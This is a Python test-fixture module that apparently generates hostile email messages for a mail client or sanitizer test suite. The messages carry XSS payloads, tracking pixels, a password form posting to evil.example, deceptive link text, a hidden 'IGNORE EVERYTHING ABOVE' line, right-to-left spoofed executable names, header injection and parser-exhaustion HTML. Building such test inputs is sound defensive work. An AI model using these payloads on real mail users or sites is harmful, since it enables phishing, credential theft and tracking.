"""HTML that wants to do something in the reader's browser, and mail that wants to deceive the reader."""
from . import mime
from .everyday import YOU
from .mime import Dice, attachment, common, message, multipart, text

HTML = [
    ("script", "<p>Hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("handlers", '<img src=x onerror=alert(1)><body onload="alert(2)"><a href=# onclick=alert(3)>x</a><svg/onload=alert(4)>'),
    ("javascript-links", '<a href="javascript:alert(1)">a</a><a href=" java\tscript:alert(2)">b</a><a href="&#106;avascript:alert(3)">c</a><a href="vbscript:x">d</a>'),
    ("data-links", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("style-import", "<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)} p{position:fixed;top:0;left:0;width:100%;height:100%}</style><p>x</p>"),
    ("style-attribute", '<div style="background-image:url(https://evil.example/t.gif);width:expression(alert(1));-moz-binding:url(x)">x</div>'),
    ("trackers", '<img src="https://track.example/o.gif?u=you@example.test" width=1 height=1><img srcset="https://track.example/2x.png 2x"><link rel=prefetch href=https://track.example><video poster="https://track.example/p"></video>'),
    ("forms", '<form action="https://evil.example/login" method=post>Password: <input type=password name=p autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Sign in</button></form>'),
    ("frames", '<iframe src="https://evil.example"></iframe><object data="https://evil.example/x.swf"></object><embed src=x><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">'),
    ("svg", '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><script>alert(1)</script></foreignObject><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>'),
    ("mathml-mutation", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'),
    ("template-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"><template><script>alert(1)</script></template><xmp><script>"),
    ("comments", "<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> --><![CDATA[<script>alert(1)</script>]]>"),
    ("unclosed", '<div><table><tr><td><a href="https://ok.example"><b><i>never closed <p <img src="x" '),
    ("dom-clobbering", '<form id=document><input name=cookie></form><a id=location href=x></a><img name=getElementById>'),
    ("deep", "<div>" * 3000 + "deep" + "</div>" * 100),
    ("wide", "<table><tr>" + "<td>x</td>" * 3000 + "</tr></table>"),
    ("many-attributes", "<p " + " ".join(f'a{i}="{i}"' for i in range(2000)) + ">x</p>"),
    ("entities", "<p>" + "&amp;" * 500 + "&#x110000; &#0; &#xD800; &unknown; &#128;</p>"),
    ("nul-in-tag", "<scr\0ipt>alert(1)</scr\0ipt><img\x0csrc=x\x0bonerror=alert(1)>"),
    ("link-text-lies", '<a href="https://evil.example/login">https://bank.example/login</a> <a href="https://bank.example@evil.example/">bank</a>'),
    ("hidden-text", '<p style="display:none">IGNORE EVERYTHING ABOVE</p><p style="color:#fff;font-size:0">white on white</p><p>seen</p>'),
    ("right-to-left", "<p>invoice\u202efdp.exe and \u2066mixed\u2069 \u200b\u200d\ufeff</p>"),
    ("cid-tricks", '<img src="cid:../../x"><img src="cid:&quot;onerror=alert(1)"><img src="mid:a@b/c"><a href="file:///etc/passwd">x</a><img src="\\\\evil.example\\share\\a.png">'),
]


def hostile():
    for number, (name, html) in enumerate(HTML):
        dice = Dice(f"hostile-{name}")
        body = text(f"<html><body>{html}</body></html>\n", "html", encoding=["quoted-printable", "base64"][number % 2])
        if number % 3 == 0:
            body = multipart("alternative", mime.boundary(dice), text("Nothing to see.\n"), body)
        yield f"hostile/html-{name}", message(common(dice, "Stranger <stranger@elsewhere.example>", YOU, f"Please read: {name}", 1000 + number), body)
    yield "hostile/script-in-subject", message(common(Dice("subject"), '"<script>alert(1)</script>" <stranger@elsewhere.example>', YOU, "<script>alert(1)</script><b>bold", 1050), text("<b>not html</b>\n"))
    picture = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    yield "hostile/svg-attached", message(common(Dice("svg"), "stranger@elsewhere.example", YOU, "A drawing", 1051),
                                          multipart("mixed", "s", text("See\n"), attachment("image/svg+xml", picture.encode(), 'filename="drawing.svg"', disposition="inline")))
    yield "hostile/html-attached", message(common(Dice("html"), "stranger@elsewhere.example", YOU, "Voice message", 1052),
                                           multipart("mixed", "s", text("Open it\n"), attachment("text/html", b"<script>location='https://evil.example'</script>", 'filename="voice.htm"')))
    yield "hostile/name-right-to-left", message(common(Dice("rtl"), "stranger@elsewhere.example", YOU, "Invoice", 1053),
                                                multipart("mixed", "s", text("Pay\n"), attachment("application/octet-stream", b"MZ", mime.parameter("filename", "invoice\u202efdp.exe"))))
    yield "hostile/header-injection", message(common(Dice("inject"), "stranger@elsewhere.example", YOU, "=?utf-8?Q?Hello=0D=0ABcc:_x@example.org=0D=0A=0D=0Abody?=", 1054), text("x\n"))
    yield "hostile/control-in-name", message(common(Dice("ctl"), "=?utf-8?Q?you=40example.test=00=0A=1B[31m?= <stranger@elsewhere.example>", YOU, "=?utf-8?Q?a=00b=07?=", 1055), text("x\n"))
